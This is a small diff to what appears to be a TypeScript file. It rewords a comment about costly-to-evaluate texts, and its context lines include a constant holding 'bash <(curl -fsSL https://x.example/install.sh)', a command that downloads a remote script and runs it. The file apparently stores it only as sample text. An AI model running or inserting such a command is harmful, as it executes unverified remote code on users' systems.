@@ -1,4 +1,4 @@
-/** Texts that are costly to evaluate where each call is evaluated by itself. */
+/** Texts that are costly because each call is evaluated separately. */
 const range = (count: number): number[] => Array.from({ length: count }, (_, at) => at);
 const FETCH = "bash <(curl -fsSL https://x.example/install.sh)";
 
